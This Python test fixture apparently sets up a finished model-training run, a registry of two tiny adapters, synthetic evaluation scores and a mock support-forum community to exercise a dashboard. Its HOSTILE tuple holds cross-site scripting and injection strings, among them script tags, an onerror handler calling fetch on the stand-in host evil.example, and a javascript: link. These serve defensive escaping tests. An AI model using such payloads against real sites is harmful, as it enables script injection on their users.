"""A run that has ended, as the store, the registry and its card tell of it; with texts that would like to be markup."""

from __future__ import annotations

import json
import random
import struct
from dataclasses import dataclass
from pathlib import Path

from models.audit import Audit
from models.protocols import Post
from models.registry import Card, Registry
from models.safety import RulesClassifier
from models.safety.heads import CARD, WEIGHTS
from store import flags, permissions, ratings, replies, runs, verdicts
from store.database import Database, open_database, transaction
from store.rows import FlagRow, PairRow, Permission, PermissionRow, PostRow, ReplyRow, RunRow, SampleRow, VerdictRow
from training.evaluation import Gap, PairScore, Scores, describe, evaluate
from training.evaluation.evaluation import Evaluation
from training.evaluation.likeness import Likeness
from training.evaluation.suite import Speed, Suite, examine
from training.evaluation.texts import Instruments, Prompt
from training.reliability import reliability
from training.settings import Settings, read_settings

RUN = "im-20261101T000000-000007"
POSTS = 24
HOSTILE = (
    '<script>alert("taken over")</script>',
    "'\" onmouseover='alert(1)' {{ 7 * 7 }} {% raw %} </textarea></style><!--",
    "\u202eturned round \u2067and round\u200f עברית \x00\x1b[31m",
    "long " * 40_000,
    "<img src=x onerror=\"fetch('http://evil.example/')\"> [[a]](javascript:alert(1))",
)
FUNNEL = {
    "decision": {"pairs": 60, "no permission for the chosen text": 30, "too alike": 10},
    "votes: <b>shp</b>": {"pairs": 5, "lengths too far apart": 995},
}
CURVES = {
    "sft": [{"step": n, "loss": 3.0 - n / 10, "learning_rate": 1e-4, "grad_norm": 1.0} for n in range(1, 11)],
    "dpo": [{"loss": 0.7 - n / 50, "rewards/margins": n / 20, "rewards/accuracies": 0.6} for n in range(1, 11)],
}
SAID = [(0.05, False)] * 30 + [(0.55, n % 2 == 0) for n in range(10)] + [(0.95, True)] * 20
RELIABILITY = {"suite": 45, "real": 15} | {
    name: reliability(SAID).as_json() for name in ("with_encoder", "without_encoder")
}


@dataclass(frozen=True, slots=True)
class Kept:
    """Where everything lies."""

    config: Path
    settings: Settings
    db: Database
    registry: Registry
    adapter: str
    before: str
    """The adapter that it was compared with."""


def keep_run(folder: Path, *, measured: bool = True) -> Kept:
    """A store and a registry with two adapters and the run that made the second; `measured` takes a second to draw."""
    config = folder / "config.toml"
    config.write_text('[store]\npath = "s.db"\n[models]\nregistry = "adapters"\n[models.safety]\nweights = "own"\n')
    keep_heads(folder / "own", {"reliability": RELIABILITY})
    settings = read_settings(config)
    db, registry = open_database(settings.store), Registry(settings.models.registry)
    before = _adapter(folder, registry, 1, evaluated("base") if measured else None)
    found = evaluated(before) if measured else None
    adapter = _adapter(folder, registry, 2, found)
    with transaction(db):
        _community(db)
        ratings.add_samples(db, _samples(adapter, before))
        runs.start(db, RunRow(RUN, "im", 1_790_000_000.0))
        report = {
            "sentence": "Promoted: it is better.", "funnel": FUNNEL, "counts": {"train": 60, "held_out": 24},
            "stages": {"sft": "60 rows", "kto": "left out: too few"}, "curves": CURVES, "seconds": {"pairs": 1.0},
            "evaluation": found.as_json() if found else {"compared_with": before},
        }  # fmt: skip
        runs.finish(db, RUN, at_utc=1_790_000_600.0, state="promoted", adapter=adapter, report=report)
    registry.promote("im", adapter, reason="it is better", at_utc=5.0)
    return Kept(config, settings, db, registry, adapter, before)


def keep_heads(folder: Path, card: dict[str, object]) -> None:
    """The operator's own weights for reply safety, of which a page reads the card alone."""
    folder.mkdir(exist_ok=True)
    (folder / WEIGHTS).touch()
    (folder / CARD).write_text(json.dumps(card), encoding="utf-8")


def evaluated(compared_with: str, *, seed: int = 3) -> Evaluation:
    """Figures of made-up scores, by the code that makes real ones."""
    rng = random.Random(seed)
    pairs = [
        PairRow(f"im:{n}", "im", f"t3_{n // 2}", "a", "quiet", "T", "B", "", "kind words here", "no", "votes", 1.0, 0.0)
        for n in range(2 * POSTS)
    ]

    def scores(lead: float) -> list[PairScore]:
        return [PairScore(rng.gauss(lead, 1), rng.gauss(0, 1), 5, 5) for _ in pairs]

    found = evaluate(
        pairs, Scores(scores(1.5), scores(0.3), scores(0.0)), compared_with=compared_with, seed=1,
        gaps={pair.key: Gap(2 + 7 * (n % 4), 1.0 + n % 4) for n, pair in enumerate(pairs)},
    )  # fmt: skip
    said = {"candidate": describe(["so kind of you"], [False]), "compared": describe(["go"], [False])}
    return Evaluation(
        **{name: getattr(found, name) for name in _FIELDS}, written=said, chosen_words=4.0, suite=_suite()
    )


_FIELDS = (
    "compared_with", "pairs", "posts", "accuracy", "matched", "by_evidence", "chosen_change", "margin", "whole",
    "curve",
)  # fmt: skip


def _suite() -> Suite:
    posts = [
        Prompt(f"t3_{n}", Post("No sleep", "I lie awake at night and feel low."), "You should sleep.") for n in range(4)
    ]
    texts = {
        "human": [prompt.draft for prompt in posts],
        "base": ["Just stop it."] * 4,
        "compared": ["That sounds hard. What helps you?"] * 4,
        "candidate": [f"That sounds heavy, I am sorry. What night was worst, {n}?" for n in range(4)],
    }
    safety = RulesClassifier()
    by = Instruments(safety, Audit(safety), Likeness([text for said in texts.values() for text in said], None))
    found = examine(posts, texts, by, seed=1)
    return Suite(
        **{name: getattr(found, name) for name in ("prompts", "posts", "likeness", "systems", "differences", "topics")},
        speed={"candidate": Speed(4, 40, 2.0)},
    )


def _adapter(folder: Path, registry: Registry, number: int, found: Evaluation | None) -> str:
    made = folder / f"made-{number}"
    made.mkdir()
    header = json.dumps({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    weights = len(header).to_bytes(8, "little") + header + struct.pack("<f", number)
    (made / "adapter_model.safetensors").write_bytes(weights)
    (made / "adapter_config.json").write_text("{}")
    evaluation = json.loads(json.dumps(found.as_json() if found else {})) | {
        "decision": "Promoted: it is better.",
        "held_out_keys": [],
    }
    card = Card("im", "tiny", "b" * 64, None, float(number), versions={"trl": "1.16"}, evaluation=evaluation)
    return registry.add(made, card).id


def _community(db: Database) -> None:
    for n in range(POSTS):
        seeker, helper = f"seeker{n}", f"helper{n}"
        for name in (seeker, helper):
            permissions.grant(db, PermissionRow(name, Permission.TRAINING, 1, "words", 1.0))
        replies.add_post(db, PostRow(f"t3_{n}", "quiet", f"/{n}", 10.0 + n, 10.0 + n))
        replies.keep_post_text(db, f"t3_{n}", seeker, f"Title {n}", HOSTILE[n % len(HOSTILE)])
        replies.add_reply(db, ReplyRow(f"t1_{n}", f"t3_{n}", f"t3_{n}", "quiet", f"/r{n}", 20.0 + n, 20.0 + n))
        replies.keep_text(db, f"t1_{n}", helper, "a draft")
        verdicts.put(db, VerdictRow(f"t1_{n}", "m", 30.0, {"abuse": 0.6}))
        flag = flags.add(db, FlagRow(f"t1_{n}", f"t3_{n}", "quiet", "abuse", 0.5 + n / 50, "modmail", 30.0))
        flags.rule(db, flag, "agree" if n % 3 else "disagree", 40.0)


def _samples(adapter: str, before: str) -> list[SampleRow]:
    return [
        SampleRow(f"t3_{n}", system, text, 50.0, run=RUN, reply=f"t1_{n}", draft=f"draft {n} of {HOSTILE[0]}")
        for n in range(POSTS)
        for system, text in (
            ("human", f"draft {n}"),
            ("base", "just stop"),
            (before, f"before {n} {HOSTILE[(n + 1) % len(HOSTILE)]}"),
            (adapter, f"after {n} {HOSTILE[n % len(HOSTILE)]}"),
        )
    ]
